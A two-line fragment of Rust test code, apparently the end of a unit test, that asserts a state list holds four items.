    assert_eq!(state.list.len(), 4);
}
